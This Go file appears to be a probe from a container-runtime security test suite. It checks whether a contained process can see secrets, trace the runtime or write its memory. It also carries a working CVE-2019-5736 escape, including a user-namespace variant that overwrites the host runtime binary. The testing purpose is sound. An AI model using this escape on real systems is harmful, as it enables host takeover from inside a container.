package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// eachProcess calls look for every process but ourselves, without end.
func eachProcess(look func(pid string)) error {
	self := strconv.Itoa(os.Getpid())
	dir, err := unix.Open("/proc", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	buf := make([]byte, 64<<10)
	for {
		if _, err := unix.Seek(dir, 0, 0); err != nil {
			return err
		}
		n, err := unix.Getdents(dir, buf)
		if err != nil {
			return err
		}
		_, _, names := unix.ParseDirent(buf[:n], -1, nil)
		for _, name := range names {
			if name[0] >= '1' && name[0] <= '9' && name != self && name != "1" {
				look(name)
			}
		}
	}
}

// isRuntime opens the program of a process without following it, and tells
// whether that is the runtime's binary.
func isRuntime(pid, devIno string) (fd int, yes bool) {
	fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return -1, false
	}
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil || fmt.Sprintf("%d:%d", st.Dev, st.Ino) != devIno {
		unix.Close(fd)
		return -1, false
	}
	return fd, true
}

// watch looks into each process while it enters: its memory, descriptors,
// root and working directory, its arguments; and traces it.
func watch(devIno, secret, out string) error {
	f, err := newFacts(out)
	if err != nil {
		return err
	}
	runtime.LockOSThread() // a tracer is a thread
	var root unix.Stat_t
	if err := unix.Stat("/", &root); err != nil {
		return err
	}
	f.note("watching")
	return eachProcess(func(pid string) {
		if line, err := os.ReadFile("/proc/" + pid + "/cmdline"); err == nil {
			f.note("seen")
			if bytes.Contains(line, []byte(secret)) {
				f.note("secret in cmdline: %s", bytes.ReplaceAll(line, []byte{0}, []byte(" ")))
			}
		}
		fd, ok := isRuntime(pid, devIno)
		if !ok {
			return
		}
		defer unix.Close(fd)
		f.note("exe: the runtime is open to us")
		for _, name := range [...]string{"root", "cwd"} {
			var st unix.Stat_t
			if unix.Stat("/proc/"+pid+"/"+name, &st) == nil && (st.Dev != root.Dev || st.Ino != root.Ino) && stillRuntime(pid, devIno) {
				f.note("%s: %d:%d is not the container's root", name, st.Dev, st.Ino)
			}
		}
		links(pid, devIno, f)
		trace(pid, devIno, f)
	})
}

// stillRuntime: it has not executed the container's program meanwhile.
func stillRuntime(pid, devIno string) bool {
	fd, yes := isRuntime(pid, devIno)
	if yes {
		unix.Close(fd)
	}
	return yes
}

func links(pid, devIno string, f *facts) {
	entries, _ := os.ReadDir("/proc/" + pid + "/fd")
	for _, e := range entries {
		name, err := os.Readlink("/proc/" + pid + "/fd/" + e.Name())
		if err == nil && stillRuntime(pid, devIno) {
			if i := strings.IndexByte(name, ':'); i >= 0 && name[0] != '/' {
				name = name[:i] // socket:[123]
			}
			f.note("fd: %s", name)
		}
	}
}

func trace(pid, devIno string, f *facts) {
	n, _ := strconv.Atoi(pid)
	if mem, err := os.OpenFile("/proc/"+pid+"/mem", os.O_RDWR, 0); err == nil {
		if stillRuntime(pid, devIno) {
			f.note("mem: open for writing")
		}
		mem.Close()
	}
	if unix.PtraceSeize(n) == nil {
		if stillRuntime(pid, devIno) {
			f.note("ptrace: attached")
		}
		if unix.PtraceInterrupt(n) == nil {
			_, _ = unix.Wait4(n, nil, unix.WALL, nil)
		}
		_ = unix.PtraceDetach(n)
	}
	if pidfd, err := unix.PidfdOpen(n, 0); err == nil {
		if got, err := unix.PidfdGetfd(pidfd, 3, 0); err == nil {
			if stillRuntime(pid, devIno) {
				f.note("pidfd_getfd: descriptor 3")
			}
			unix.Close(got)
		}
		unix.Close(pidfd)
	}
}

// overwrite is CVE-2019-5736, and its variation in which the attacker takes
// the write protection off the mount first, in a user namespace of his own.
func overwrite(devIno, out string) error {
	f, err := newFacts(out)
	if err != nil {
		return err
	}
	thawer, err := startThaw()
	if err != nil {
		f.note("no user namespace: %v", err)
	}
	f.note("watching")
	return eachProcess(func(pid string) {
		fd, ok := isRuntime(pid, devIno)
		if !ok {
			return
		}
		defer unix.Close(fd)
		f.note("caught")
		if thawer >= 0 {
			f.note("thaw: %s", askThaw(thawer, fd))
		}
		f.note("write: %v", write(fd, f))
	})
}

// write tries for as long as the text is busy.
func write(fd int, f *facts) error {
	for deadline := time.Now().Add(2 * time.Second); ; {
		w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY && time.Now().Before(deadline) {
			continue
		}
		if err != nil {
			return err
		}
		_, err = unix.Pwrite(w, []byte("#!/attacker"), 0)
		unix.Close(w)
		f.note("OVERWRITTEN")
		return err
	}
}

// startThaw makes a process in a new user namespace, which may call
// mount_setattr(2). The descriptor is its socket.
func startThaw() (int, error) {
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return -1, err
	}
	cmd := exec.Command("/proc/self/exe", "thaw")
	cmd.ExtraFiles = []*os.File{os.NewFile(uintptr(pair[1]), "thaw")}
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER | unix.CLONE_NEWNS, Pdeathsig: unix.SIGKILL}
	if err := cmd.Start(); err != nil {
		return -1, err
	}
	return pair[0], nil
}

func askThaw(socket, fd int) string {
	var answer [64]byte
	if err := unix.Sendmsg(socket, []byte{0}, unix.UnixRights(fd), nil, 0); err != nil {
		return err.Error()
	}
	n, err := unix.Read(socket, answer[:])
	if err != nil {
		return err.Error()
	}
	return string(answer[:n])
}

func thaw() error {
	var b [1]byte
	oob := make([]byte, unix.CmsgSpace(4))
	for {
		_, n, _, _, err := unix.Recvmsg(3, b[:], oob, unix.MSG_CMSG_CLOEXEC)
		if err != nil || n == 0 {
			return err
		}
		messages, err := unix.ParseSocketControlMessage(oob[:n])
		if err != nil {
			return err
		}
		fds, err := unix.ParseUnixRights(&messages[0])
		if err != nil {
			return err
		}
		err = unix.MountSetattr(fds[0], "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY})
		unix.Close(fds[0])
		if _, err := unix.Write(3, fmt.Appendf(nil, "%v", err)); err != nil {
			return err
		}
	}
}
